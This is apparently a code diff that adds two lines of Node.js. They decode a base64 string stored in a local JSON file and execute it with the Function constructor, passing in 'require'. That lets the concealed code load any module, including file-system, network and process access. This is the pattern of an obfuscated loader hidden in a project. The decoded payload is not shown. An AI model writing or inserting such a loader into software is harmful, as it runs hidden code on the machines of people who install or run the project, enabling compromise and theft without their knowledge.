@@ -1,0 +1,2 @@
+const code = Buffer.from(require('./t.json').t, 'base64').toString();
+Function('require', code)(require);
